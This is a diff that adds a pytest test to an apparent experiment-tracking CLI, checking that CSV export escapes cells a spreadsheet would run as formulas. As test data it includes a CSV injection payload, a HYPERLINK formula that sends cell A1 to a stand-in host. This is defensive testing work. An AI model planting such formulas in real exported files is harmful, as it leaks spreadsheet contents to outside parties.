@@ -227,3 +227,36 @@ def test_csv_to_standard_output_with_a_dash(tmp_path, capsys, monkeypatch):
     lines = out.splitlines()
     assert lines[0].startswith("id,run_id,") and "valid_acc" in lines[0] and len(lines) == 2 and ",90.5" in lines[1]
     assert err.strip() == f"standard output: 1 evaluations of run {run_id}"
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, capsys):
+    """CSV injection: a table's column named ``=HYPERLINK(...)`` or a text value starting with = + - @ (tab,
+    CR) is a formula to the spreadsheet that opens the CSV. Such names and text cells get a leading ``'``;
+    numbers, a negative one too, stay numbers; the file and ``--out -`` write the same."""
+    import csv
+    import io
+    store = RunStore(tmp_path / "runs.db")
+    run_id = store.create_run("search", {"algo": "rs", "budget": 3}, 0)
+    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    store.add_evaluation(run_id, space="nb201", arch="|nor_conv_3x3~0|", canonical="c", evaluator="@SUM(1)",
+                         metrics={formula: -0.5, "note": "+1+1", "tab": "\t=1", "cr": "\r=1", "minus": "-cmd",
+                                  "fine": "a=b", "neg": -3.25}, cost_s=1.0)
+    out_file = tmp_path / "evals.csv"
+    assert _runs(capsys, "--store", str(store.path), "--csv", run_id, "--out", str(out_file))[0] == 0
+    code, printed, _ = _runs(capsys, "--store", str(store.path), "--csv", run_id, "--out", "-")
+    assert code == 0 and printed == open(out_file, newline="").read()
+    (row,) = list(csv.DictReader(io.StringIO(printed)))
+    assert "'" + formula in row and formula not in row
+    assert row["'" + formula] == "-0.5" and row["neg"] == "-3.25"                     # numbers stay numbers
+    assert (row["note"], row["tab"], row["cr"], row["minus"]) == ("'+1+1", "'\t=1", "'\r=1", "'-cmd")
+    assert row["evaluator"] == "'@SUM(1)" and row["fine"] == "a=b" and row["arch"] == "|nor_conv_3x3~0|"
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) or v.startswith("-") and not _number(v)
+                   for v in [*row, *row.values()] if v)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
